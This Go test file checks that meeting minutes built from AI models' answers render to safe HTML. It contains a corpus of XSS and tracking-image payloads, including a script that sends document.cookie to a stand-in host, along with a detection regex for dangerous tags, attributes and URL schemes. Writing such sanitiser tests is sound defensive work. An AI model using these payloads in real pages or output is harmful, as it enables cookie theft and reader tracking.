package minutes

import (
	"bytes"
	"regexp"
	"strings"
	"testing"

	"github.com/magi-system/magi"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"
)

// render is what a wiki or an issue tracker does with pasted minutes, at
// its most trusting: CommonMark with GitHub's extensions, raw HTML kept.
func render(t *testing.T, md string) string {
	t.Helper()
	var out bytes.Buffer
	md2 := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))
	if err := md2.Convert([]byte(md), &out); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

var (
	htmlTag = regexp.MustCompile(`(?i)<([a-z][a-z0-9]*)\b([^>]*)>`)
	// the elements Markdown itself makes; anything else came from raw HTML
	markdownTags = map[string]bool{"h1": true, "h2": true, "h3": true, "h4": true, "h5": true, "h6": true, "p": true,
		"ul": true, "ol": true, "li": true, "strong": true, "em": true, "code": true, "pre": true, "blockquote": true,
		"table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true, "a": true, "hr": true, "br": true,
		"del": true, "input": true}
	badAttr = regexp.MustCompile(`(?i)\s(on[a-z]+|src|style|srcset|formaction)\s*=|href="\s*(javascript|vbscript|data):`)
)

// unsafeHTML names what in rendered HTML could load or run something: an
// element Markdown does not make (img, script, iframe …), an attribute
// that loads or runs (src, on…), a link to a javascript:, vbscript: or
// data: URL. "" when there is none.
func unsafeHTML(h string) string {
	for _, m := range htmlTag.FindAllStringSubmatch(h, -1) {
		if !markdownTags[strings.ToLower(m[1])] {
			return m[0]
		}
		if badAttr.MatchString(m[0]) {
			return m[0]
		}
		if strings.EqualFold(m[1], "input") && !strings.Contains(m[2], `type="checkbox"`) {
			return m[0]
		}
	}
	if strings.Contains(h, "<!--") || strings.Contains(h, "<?") || strings.Contains(h, "<![") {
		return "a comment, CDATA or processing instruction"
	}
	return ""
}

// attacks is model text that tries to load a remote resource or run
// markup where the minutes are pasted.
var attacks = []struct{ name, text string }{
	{"img tag", `Look: <img src="http://t.example/p.gif">`},
	{"img tag unquoted", `<img src=http://t.example/p.gif>`},
	{"img upper case", `<IMG SRC=http://t.example/p.gif>`},
	{"script", `<script>fetch("http://t.example/"+document.cookie)</script>`},
	{"iframe", `<iframe src="http://t.example/"></iframe>`},
	{"svg onload", `<svg onload=alert(1)>`},
	{"html block", "<div>\n<img src=x onerror=alert(1)>\n</div>"},
	{"html block type 7", "<details open ontoggle=alert(1)>\n\nx\n</details>"},
	{"comment", `<!-- hidden --> text`},
	{"cdata", `<![CDATA[x]]>`},
	{"processing instruction", `<?php echo 1; ?>`},
	{"style", `<style>body{background:url(http://t.example/p)}</style>`},
	{"inline tag in prose", `The answer is <b onmouseover=alert(1)>yes</b>.`},
	{"tag in heading", "# Verdict <img src=x onerror=alert(1)>"},
	{"tag in blockquote", "> <script>alert(1)</script>"},
	{"tag in list", "- item <img src=x>"},
	{"tag in table", "| a |\n|---|\n| <img src=x> |"},
	{"markdown image", `![pixel](http://t.example/p.gif)`},
	{"image with title", `![pixel](http://t.example/p.gif "title")`},
	{"image angle destination", `![pixel](<http://t.example/p.gif>)`},
	{"image destination on next line", "![pixel](\nhttp://t.example/p.gif)"},
	{"reference image", "![pixel][t]\n\n[t]: http://t.example/p.gif"},
	{"collapsed reference image", "![t][]\n\n[t]: http://t.example/p.gif"},
	{"shortcut reference image", "![t]\n\n[t]: http://t.example/p.gif"},
	{"image inside a link", `[![x](http://t.example/p.gif)](http://e.example)`},
	{"image inside image alt", `![a ![b](http://t.example/p.gif)](http://t.example/q.gif)`},
	{"image after a literal backslash", `\\![x](http://t.example/p.gif)`},
	{"data image", `![x](data:image/png;base64,iVBORw0KGgo=)`},
	{"autolink", `<http://t.example/p.gif>`},
	{"javascript link", `[click](javascript:alert(1))`},
	{"javascript link upper case", `[click](JaVaScRiPt:alert(1))`},
	{"javascript link entity", `[click](jav&#97;script:alert(1))`},
	{"javascript link on next line", "[click](\njavascript:alert(1))"},
	{"javascript reference", "[click][j]\n\n[j]: javascript:alert(1)"},
	{"javascript reference on next line", "[click]\n\n[click]:\n  javascript:alert(1)"},
	{"vbscript link", `[click](vbscript:msgbox(1))`},
	{"data link", `[click](data:text/html;base64,PHNjcmlwdD4=)`},
	{"html after a code fence", "```\ncode\n```\n<img src=x>"},
	{"fence with a backtick in its info", "``` a`b\n<img src=x>\n```"},
	{"indented fence closed by a column-0 fence", "```\nx\n   ```\n<img src=x>"},
	{"bare carriage returns", "```\rx\r```\r<img src=x>"},
	{"escaped backtick then html", "\\`<img src=x>`"},
	{"code span across lines", "`a\nb` <img src=x> `c`"},
}

// minutesOf is a record whose every model-written field is text; debated,
// it ran two rounds.
func minutesOf(text string, debated bool) magi.Record {
	sage := magi.AgentRecord{AgentInfo: magi.AgentInfo{ID: magi.Melchior, Name: "MELCHIOR-1", Provider: "p", Model: "m"}, Text: text,
		Verdict: &magi.Verdict{Decision: magi.Abstained, Reason: text, Conditions: []string{text}}}
	r := magi.Record{ID: "d1", Question: text, Rule: magi.Majority, Status: magi.StatusCompleted, Decision: magi.Conditional,
		Summary: text, Conditions: []string{text}, Note: text, Error: &magi.ErrorInfo{Code: "x", Message: text},
		Agents: []magi.AgentRecord{sage,
			{AgentInfo: magi.AgentInfo{ID: magi.Solomon, Name: "SOLOMON", Provider: "p", Model: "m"}, Text: text, Error: text}}}
	if debated {
		r.MaxRounds = 2
		r.Rounds = []magi.RoundRecord{{Round: 1, Agents: []magi.AgentRecord{sage}}, {Round: 2, Agents: []magi.AgentRecord{sage}}}
	}
	return r
}

// TestMinutes_SafeToPaste: whatever the models wrote, the minutes render
// to HTML that loads nothing and runs nothing.
func TestMinutes_SafeToPaste(t *testing.T) {
	for _, a := range attacks {
		if unsafeHTML(render(t, a.text)) == "" && !strings.Contains(a.text, "<http") {
			t.Errorf("%s: the attack itself renders safely; the corpus tests nothing", a.name)
		}
		for _, debated := range []bool{false, true} {
			md := Markdown(minutesOf(a.text, debated))
			if bad := unsafeHTML(render(t, md)); bad != "" {
				t.Errorf("%s (debated %v): the minutes render %s\nMarkdown:\n%s", a.name, debated, bad, md)
			}
		}
	}
}

// TestMinutes_StayReadable: prose, formatting and code keep their meaning.
func TestMinutes_StayReadable(t *testing.T) {
	text := "**Costs** fall if x < y and a > b.\n\n- one\n- two\n\n```go\nif a < b && c > d {}\n```\n\nSee https://example.com/report."
	h := render(t, Markdown(minutesOf(text, false)))
	for _, want := range []string{"<strong>Costs</strong> fall if x &lt; y and a &gt; b.", "<li>one</li>",
		"<code class=\"language-go\">if a &lt; b &amp;&amp; c &gt; d {}\n</code>", `<a href="https://example.com/report">`} {
		if !strings.Contains(h, want) {
			t.Errorf("the rendered minutes lack %q:\n%s", want, h)
		}
	}
	h = render(t, Markdown(minutesOf("```\nnever closed <b>", false)))
	if !strings.Contains(h, "<h2>SOLOMON (p/m)</h2>") {
		t.Errorf("an answer's unclosed code block swallows the rest of the minutes:\n%s", h)
	}
}
